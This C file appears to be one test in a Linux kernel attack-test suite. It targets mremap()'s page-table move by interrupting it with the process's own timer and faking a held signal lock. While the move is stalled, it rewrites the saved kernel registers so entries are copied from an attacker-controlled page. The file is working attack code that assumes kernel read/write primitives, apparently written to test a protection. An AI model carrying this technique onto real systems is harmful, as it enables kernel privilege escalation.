// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what an interrupted section will do when it goes on. mremap() moves
 * entries from table to table in one section. The process's own timer interrupts
 * it, and its handler waits for a lock that is made to look held: that of the
 * process's signals. Meanwhile the saved register that says where entries come
 * from is pointed at a page of the attacker's.
 */
#include <signal.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "mover.h"
#include "objects.h"
#include "pt_regs.h"

#define MOVER		"__move_ptes"	/* where page tables are protected */
#define MOVER_WITHOUT	"move_page_tables"
#define MOVER_SIZE	0x1000		/* at most */
#define INTERVAL	1000		/* microseconds */
#define HOLD		5		/* milliseconds */

#ifdef __x86_64__
#define LOCK_ALONE	0		/* nothing shows who waits */
#else
#define LOCK_ALONE	1		/* more if somebody waits */
#endif

static uint64_t function, lock;

static void begin(void)
{
	heed_alarms();
	mover->ready = true;
	while (!mover->go)
		usleep(1000);
	alarm_every(INTERVAL);
}

static bool find_target(pid_t pid, struct moved *moved)
{
	function = ksymbol(is_protected() ? MOVER : MOVER_WITHOUT);
	if (!function || !find_moved(pid, moved))
		return false;
	lock = find_signal_lock(&moved->task);
	return lock;
}

/* Asleep: on an emulator a busy CPU delays each flush of the mover's TLB. */
static bool hold_lock(void)
{
	uint32_t word = 0;

	set_lock(lock, true);
	usleep(HOLD * 1000);
	kread(lock, &word, sizeof(word));
	return word > LOCK_ALONE;
}

static void change_frame(void *moved, uint64_t at, const uint64_t *frame)
{
	point_registers(moved, at, frame);
}

static void change_once(struct moved *moved)
{
	if (hold_lock() && has_hit_mover()) {
		moved->held++;
		prepare_page(moved);
		find_frames(&moved->task, function, MOVER_SIZE, change_frame, moved);
	}
	set_lock(lock, false);
}

enum outcome interrupted_registers(void)
{
	struct moved moved = { 0 };
	enum outcome outcome;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_mover(begin);
	while (!mover->ready)
		usleep(1000);
	if (!find_target(pid, &moved))
		return broken("no tables, no stack or no lock");
	mover->go = true;
	change_until_found(&moved, change_once);
	outcome = judge_moved(&moved);
	kill(pid, SIGKILL);
	return outcome;
}
